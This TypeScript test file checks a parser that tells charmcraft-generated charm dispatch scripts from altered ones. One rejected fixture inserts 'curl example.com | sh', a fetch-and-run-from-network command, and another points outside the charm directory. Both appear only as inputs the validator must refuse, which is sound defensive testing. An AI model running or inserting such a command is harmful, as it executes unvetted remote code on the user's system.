/** Which dispatch scripts are charmcraft's own. */
import { describe, expect, it } from 'vitest';
import { dispatchScript, readDispatch } from '../../src/engine/project/charm-dispatch.ts';

const NEWER = [
  '#!/bin/sh',
  'dispatch_path="$(dirname $(realpath $0))"',
  'venv_bin_path="${dispatch_path}/venv/bin"',
  'python_path="${venv_bin_path}/python"',
  'if [ ! -e "${python_path}" ]; then',
  '    mkdir -p "${venv_bin_path}"',
  '    ln -s $(which python3) "${python_path}"',
  'fi',
  '# A remark.',
  'export PYTHONPATH="${dispatch_path}/lib:${dispatch_path}/src"',
  'export LD_LIBRARY_PATH="${dispatch_path}/usr/lib:${dispatch_path}/lib"',
  'exec "${python_path}" "${dispatch_path}/src/charm.py"',
  '',
].join('\n');

describe('a dispatch script', () => {
  it.each(['itself', 'python3'] as const)(
    'that was generated to start %s is known again',
    (how) => {
      const script = dispatchScript('src/main.py', how);
      expect(readDispatch(script)).toEqual({ entrypoint: 'src/main.py', form: 'older' });
    },
  );

  it.each([
    ['of charmcraft 1', 'PYTHONPATH=lib:venv ./src/charm.py', 'older'],
    [
      'of charmcraft 2',
      'JUJU_DISPATCH_PATH="${JUJU_DISPATCH_PATH:-$0}" PYTHONPATH=lib:venv ./src/charm.py',
      'older',
    ],
    ['of the newer plugins', NEWER, 'newer'],
  ])('%s is known', (_, script, form) => {
    const text = script.startsWith('#!') ? script : `#!/bin/sh\n\n${script}\n`;
    expect(readDispatch(text)).toEqual({ entrypoint: 'src/charm.py', form });
  });

  it.each([
    ['does something before', '#!/bin/sh\napt install x\nPYTHONPATH=lib:venv ./src/charm.py\n'],
    ['does something between', NEWER.replace('fi\n', 'fi\ncurl example.com | sh\n')],
    ['starts something else', '#!/bin/sh\nexec ./src/charm.sh\n'],
    ['leads out of the charm', '#!/bin/sh\nPYTHONPATH=lib:venv ./../charm.py\n'],
    ['has another path', '#!/bin/sh\nPYTHONPATH=lib ./src/charm.py\n'],
    ['is empty', ''],
  ])('that %s is not', (_, script) => {
    expect(readDispatch(script)).toBeNull();
  });
});
